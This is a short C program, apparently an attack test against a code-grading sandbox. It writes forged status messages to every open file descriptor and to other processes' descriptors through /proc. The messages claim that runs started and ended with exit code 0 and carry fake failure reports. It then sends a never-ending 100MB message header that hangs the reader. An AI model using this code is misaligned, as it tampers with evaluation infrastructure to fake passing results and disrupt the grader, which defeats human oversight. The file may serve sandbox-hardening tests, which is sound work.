/* Says what only the grader's own processes say to each other, wherever it can. */
#include "attack.h"

static void tell(int file, const char *message)
{
    uint32_t length = strlen(message);
    char frame[512];
    memcpy(frame, &length, 4);
    memcpy(frame + 4, message, length);
    if (write(file, frame, length + 4) < 0) {
        return;
    }
}

static void tell_all(int file)
{
    static const char *const messages[] = {
        "\"Started\"", "{\"Ended\":[{\"Code\":0},1]}", "{\"Failed\":\"forged: forged words\"}", "null",
        "{\"failure\":\"forged: a forged report\",\"exit\":{\"Code\":0},\"unread\":0,\"marks\":[],\"cpu\":0}",
    };
    for (unsigned one = 0; one < sizeof messages / sizeof messages[0]; one++) {
        tell(file, messages[one]);
    }
    /* The start of a message that never ends. */
    uint32_t most = 100 << 20;
    if (write(file, &most, 4) < 0) {
        return;
    }
}

int main(void)
{
    for (int number = 1; number < 256; number++) {
        tell_all(number);
    }
    for (int process = 1; process < 1 << 15; process++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd", process);
        if (process == getpid() || access(path, F_OK) != 0) {
            continue;
        }
        for (int number = 0; number < 20; number++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", process, number);
            int file = open(path, O_WRONLY | O_NONBLOCK);
            if (file >= 0) {
                tell_all(file);
            }
        }
    }
    return 0;
}
